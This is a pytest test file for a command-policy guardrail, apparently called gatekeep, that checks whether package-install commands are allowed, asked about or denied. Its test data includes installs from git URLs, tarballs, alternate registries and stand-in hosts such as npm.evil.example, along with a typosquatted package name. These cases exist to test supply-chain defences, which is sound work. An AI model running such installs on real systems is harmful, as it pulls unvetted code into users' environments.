"""``packages:``: installs by name from the default registry are the rule's; installs from
anywhere else (a git URL, a tarball URL, another registry, a path outside the tree, a Go
module host not listed) are asked, or denied when the guardrail says so."""

from __future__ import annotations

from pathlib import Path

import pytest
from fakes import Resolver

from gatekeep.core.engine import Decision, decide
from gatekeep.core.paths import Context
from gatekeep.errors import PolicyError
from gatekeep.policy.load import load_policy
from gatekeep.policy.model import Policy
from gatekeep.shell.parse import parse

CWD = "/work/project"
INSTALLERS = ('["pip install", "npm install", "npm i", "cargo install", "go install", '
              '"gem install", "yarn add", "uv pip install", "python -m pip install"]')


def make(tmp_path: Path, guard: str, top: str = "") -> Policy:
    path = tmp_path / "policy.yaml"
    path.write_text(f"gatekeep: 1\n{top}rules:\n  - id: installs\n    allow: {INSTALLERS}\n"
                    f"{guard}")
    return load_policy(path)


def judge(policy: Policy, command: str, files: dict[str, str] | None = None) -> Decision:
    return decide(policy, parse(command), Context(cwd=CWD, home="/home/u",
                                                  resolver=Resolver(files)))


def reasons(decision: Decision) -> list[str]:
    return [v.reason or "" for s in decision.segments for v in s.deciding]


BY_NAME = [
    "pip install requests", "pip install 'requests[socks]>=2.31'", "pip3 install flask==3.0",
    "python -m pip install requests", "uv pip install httpx", "npm install left-pad",
    "npm i @types/node@20", "npm install", "yarn add react", "cargo install ripgrep",
    "gem install rails", "pip install -e .",
    "pip install ./dist/tool-1.0-py3-none-any.whl", "npm install ./packages/ui",
    "cargo install --path .",
]


@pytest.mark.parametrize("command", BY_NAME)
def test_installs_by_name_or_from_the_tree_are_the_rules(tmp_path: Path, command: str) -> None:
    decision = judge(make(tmp_path, "    packages: {sources: deny}\n"), command)
    assert decision.decision == "allow", reasons(decision)


ELSEWHERE = [
    ("pip install git+https://github.com/x/y", "installs from git+https://github.com/x/y, not "
     "by name from the default registry"),
    ("pip install https://example.com/x-1.0.tar.gz", "installs from https://example.com/"),
    ("pip install -e git+https://github.com/x/y#egg=y", "installs from git+https://"),
    ("pip install --index-url https://mirror.example/simple requests",
     "installs from --index-url https://mirror.example/simple"),
    ("pip install --extra-index-url=https://m.example/ requests", "installs from "
     "--extra-index-url"),
    ("pip install -r /tmp/reqs.txt", "installs what /tmp/reqs.txt lists, a file outside the "
     "working tree"),
    ("pip install ../elsewhere/pkg", "a local path outside the working tree"),
    ("npm install github:x/y", "installs from github:x/y"),
    ("npm i user/repo", "installs from user/repo (a GitHub repository)"),
    ("npm install git+ssh://git@github.com/x/y.git", "installs from git+ssh://"),
    ("npm install --registry https://npm.evil.example left-pad", "installs from --registry"),
    ("npm install file:../../x", "a local path outside the working tree"),
    ("yarn add https://example.com/x.tgz", "installs from https://example.com/x.tgz"),
    ("cargo install --git https://github.com/x/y", "installs from --git https://github.com/x/y"),
    ("cargo install --registry other x", "installs from --registry other"),
    ("go install evil.example/x@latest", "installs evil.example/x, fetched from its host"),
    ("gem install --source https://gems.evil.example rails", "installs from --source"),
]


@pytest.mark.parametrize(("command", "said"), ELSEWHERE)
def test_installs_from_elsewhere_are_denied_when_the_guardrail_says_so(
        tmp_path: Path, command: str, said: str) -> None:
    decision = judge(make(tmp_path, "    packages: {sources: deny}\n"), command)
    assert decision.decision == "deny"
    assert any(said in r for r in reasons(decision)), reasons(decision)


@pytest.mark.parametrize(("command", "said"), ELSEWHERE[:3])
def test_installs_from_elsewhere_are_asked_by_default(tmp_path: Path, command: str,
                                                      said: str) -> None:
    decision = judge(make(tmp_path, "    packages: {}\n"), command)
    assert decision.decision == "ask"


@pytest.mark.parametrize("command", ["pip install $PKG", "npm i $(cat pkgs)",
                                     "pip install $OPTS requests"])
def test_an_install_known_only_at_run_time_is_asked(tmp_path: Path, command: str) -> None:
    decision = judge(make(tmp_path, "    packages: {sources: deny}\n"), command)
    assert decision.decision == "ask"
    assert any("known only at run time" in r for r in reasons(decision)), reasons(decision)


def test_an_allowlist_lets_its_names_and_scopes_through(tmp_path: Path) -> None:
    policy = make(tmp_path, '    packages: {names: [requests, "@myorg/*", "golang.org/x/*"]}\n')
    assert judge(policy, "pip install requests==2.31").decision == "allow"
    assert judge(policy, "npm i @myorg/ui@2").decision == "allow"
    assert judge(policy, "go install golang.org/x/tools/gopls@latest").decision == "allow"
    other = judge(policy, "pip install reqeusts")
    assert other.decision == "ask"
    assert reasons(other) == ["installs reqeusts, which is not among the package names the "
                              "policy lists"]
    assert judge(policy, "npm i @evil/ui").decision == "ask"
    assert judge(policy, "go install evil.example/x@v1").decision == "ask"


def test_the_policy_wide_guardrail_judges_every_install(tmp_path: Path) -> None:
    policy = make(tmp_path, "", top="packages: {sources: deny}\n")
    assert judge(policy, "pip install requests").decision == "allow"
    denied = judge(policy, "sudo pip install git+https://github.com/x/y")
    assert denied.decision == "deny"
    assert [v.rule for s in denied.deciding for v in s.deciding] == ["packages"]


def test_the_default_policy_asks_for_other_sources_and_says_why() -> None:
    decision = judge(load_policy("builtin:default"), "pip install git+https://github.com/x/y")
    assert decision.decision == "ask"
    segment = decision.segments[0]
    assert segment.rules[0] == "packages"
    assert segment.reason == ("installs from git+https://github.com/x/y, not by name from "
                              "the default registry: code no registry has vetted or kept")


@pytest.mark.parametrize("name", ["https://x.example/p", "-e", "./local", "a b", "x:y",
                                  "git+https://h/x", "/abs"])
def test_an_allowlist_entry_that_is_no_package_name_is_an_error(tmp_path: Path,
                                                                name: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(f"gatekeep: 1\npackages: {{names: ['{name}']}}\n")
    with pytest.raises(PolicyError) as raised:
        load_policy(path)
    assert f"not a package name or scope: {name!r}" in str(raised.value)
    assert str(raised.value).startswith(f"{path}:2:")


def test_a_requirements_file_is_judged_line_by_line(tmp_path: Path) -> None:
    policy = make(tmp_path, "    packages: {sources: deny}\n")
    files = {f"{CWD}/requirements.txt": "requests==2.31\n-r dev.txt\n",
             f"{CWD}/dev.txt": "pytest\n"}
    assert judge(policy, "pip install -r requirements.txt", files).decision == "allow"
    files[f"{CWD}/dev.txt"] = "pytest\n--extra-index-url https://m.example/simple\n"
    decision = judge(policy, "pip install -r requirements.txt", files)
    assert decision.decision == "deny"
    assert reasons(decision) == [
        "installs from --extra-index-url https://m.example/simple, not by name from the "
        "default registry: code no registry has vetted or kept (in dev.txt, line 2) "
        "(in requirements.txt, line 2)"]


class Unreadable:
    """A resolver that cannot read files: what a requirements file lists is unknown."""

    def which(self, name: str) -> str | None:
        return f"/usr/bin/{name}"

    def realpath(self, path: str) -> str:
        return path

    def fingerprint(self, path: str) -> str | None:
        return "file:0"

    def read(self, path: str) -> str | None:
        return None  # no file holds any text

    def expand(self, pattern: str) -> list[str]:
        return []


def test_a_requirements_file_that_cannot_be_read_is_asked(tmp_path: Path) -> None:
    policy = make(tmp_path, "    packages: {sources: deny}\n")
    context = Context(cwd=CWD, home="/home/u", resolver=Unreadable())
    decision = decide(policy, parse("pip install -r requirements.txt"), context)
    assert decision.decision == "ask"
    assert "which gatekeep cannot read" in reasons(decision)[0]
